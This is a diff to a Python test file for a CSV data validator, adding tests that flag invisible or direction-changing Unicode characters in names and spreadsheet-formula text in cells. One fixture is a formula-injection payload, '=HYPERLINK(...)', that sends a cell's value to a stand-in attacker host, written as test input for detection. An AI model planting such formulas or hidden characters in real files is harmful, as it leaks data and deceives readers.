@@ -357,12 +357,22 @@ def test_a_dollar_in_a_theme_name_is_drawn_as_text_without_mathtext(minimal):
         plt.close(fig)
 
 
-def test_an_invisible_character_in_a_name(minimal):
-    set_cell(minimal, "themes.csv", 2, "name", "Train\x07ing")
+@pytest.mark.parametrize(
+    "hidden",
+    ["\x07", "\u202e", "\u2066", "\u00ad", "\u180e", "\u3164", "\u2062", "\ufe0f", "\U000e0041", "\u2800"],
+)
+def test_an_invisible_or_direction_changing_character_in_a_name(minimal, hidden):
+    set_cell(minimal, "themes.csv", 2, "name", f"Train{hidden}ing")
     assert problems(minimal) == [
-        "data/themes.csv, row 2, column \"name\": 'Train\\x07ing' contains an invisible control "
-        "character (U+0007); delete it"
+        f'data/themes.csv, row 2, column "name": {f"Train{hidden}ing"!r} contains an invisible or '
+        f"direction-changing character (U+{ord(hidden):04X}); delete it"
     ]
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula(minimal):
+    set_cell(minimal, "studies.csv", 2, "setting", '=HYPERLINK("http://evil.example/?"&A2)')
+    [found] = problems(minimal)
+    assert found.startswith('data/studies.csv, row 2, column "setting": ') and "as a formula" in found, found
 
 
 def test_a_figure_type_that_fails_its_own_check_causes_no_follow_on_error(minimal):
